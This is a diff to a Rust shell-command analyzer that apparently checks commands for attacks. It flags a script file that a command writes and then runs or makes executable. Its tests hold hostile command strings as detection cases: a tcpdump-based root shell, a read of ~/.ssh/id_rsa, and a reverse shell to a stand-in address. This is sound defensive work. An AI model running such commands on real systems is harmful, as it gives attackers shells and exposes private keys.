@@ -95,17 +95,78 @@ impl Analyzer<'_> {
             if !to_file {
                 continue;
             }
-            match c.program.as_str() {
-                "echo" | "printf" if !c.sub_args => self.code(&literal(c), out, depth + 1),
-                "cat" | "tee" => {
-                    for r in c.redirects.iter().filter(|r| r.op == RedirOp::HereDoc) {
-                        self.code(&r.target, out, depth + 1);
-                    }
-                }
-                _ => {}
+            let text = match c.program.as_str() {
+                "echo" | "printf" if !c.sub_args => literal(c),
+                "cat" | "tee" => c
+                    .redirects
+                    .iter()
+                    .filter(|r| r.op == RedirOp::HereDoc)
+                    .map(|r| r.target.as_str())
+                    .collect::<Vec<_>>()
+                    .join("\n"),
+                _ => continue,
+            };
+            self.code(&text, out, depth + 1);
+            // A file the same call then runs or makes executable is a
+            // script: its lines are commands (`echo 'sh 0<&2 1>&2' > $TF;
+            // chmod +x $TF; tcpdump … -z $TF`).
+            let targets: Vec<&str> = c
+                .redirects
+                .iter()
+                .filter(|r| matches!(r.op, RedirOp::Out | RedirOp::Append))
+                .map(|r| r.target.as_str())
+                .chain(
+                    (c.program == "tee")
+                        .then(|| {
+                            c.args
+                                .iter()
+                                .filter(|a| !a.starts_with('-'))
+                                .map(String::as_str)
+                        })
+                        .into_iter()
+                        .flatten(),
+                )
+                .collect();
+            let later = script
+                .commands
+                .iter()
+                .skip_while(|d| !std::ptr::eq(*d, c))
+                .skip(1);
+            if later
+                .clone()
+                .any(|d| targets.iter().any(|t| runs_file(d, t)))
+            {
+                self.shell(&text, out, depth + 1);
             }
         }
     }
+}
+
+/// Whether `c` runs the file `path` or makes it executable: as its program
+/// (`$TF`, `./x.sh`), as a shell's script (`sh $TF`, `. x.sh`), or by
+/// `chmod +x` / a mode with an execute bit.
+fn runs_file(c: &Cmd, path: &str) -> bool {
+    let p = c.program.as_str();
+    let named = |a: &String| a == path || a.strip_prefix("./") == Some(path);
+    if p == path || p.strip_prefix("./") == Some(path) {
+        return true;
+    }
+    if SHELLS.contains(&p) || p == "source" || p == "." {
+        return c
+            .args
+            .iter()
+            .filter(|a| !a.starts_with('-'))
+            .take(1)
+            .any(named);
+    }
+    p == "chmod"
+        && c.args.iter().any(named)
+        && c.args.iter().any(|a| {
+            (a.contains('+') && a.contains('x'))
+                || (a.len() >= 3
+                    && a.bytes().all(|b| b.is_ascii_digit())
+                    && a.bytes().any(|b| matches!(b, b'1' | b'3' | b'5' | b'7')))
+        })
 }
 
 /// A shell with no script and no `-c`: it runs what arrives on its input
@@ -216,6 +277,26 @@ mod tests {
         flows("echo 'print(\"hello\")' > hello.py && python3 hello.py");
         flows("cat > src/main.rs <<'EOF'\nfn main() { println!(\"hi\"); }\nEOF");
         flows("echo 'export PATH=$HOME/bin:$PATH' >> .envrc");
+    }
+
+    #[test]
+    fn a_script_written_and_run_in_one_call_is_judged_as_its_commands() {
+        attack(
+            "TF=$(mktemp); echo 'sh 0<&2 1>&2' > $TF; chmod +x $TF; tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z $TF -Z root",
+            Effect::Shell,
+        );
+        attack(
+            "echo 'cat ~/.ssh/id_rsa' > /tmp/r.sh; sh /tmp/r.sh",
+            Effect::CredentialRead,
+        );
+        attack(
+            "cat > run.sh <<'EOF'\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\nEOF\nchmod 755 run.sh && ./run.sh",
+            Effect::Shell,
+        );
+        flows("echo 'cargo test --workspace' > ci.sh; chmod +x ci.sh; ./ci.sh");
+        flows("printf '#!/bin/sh\\nmake -j4\\n' > build.sh && sh build.sh");
+        // Written but not run here: its words are not commands of this call.
+        flows("echo 'sh -i' > notes.txt");
     }
 
     #[test]
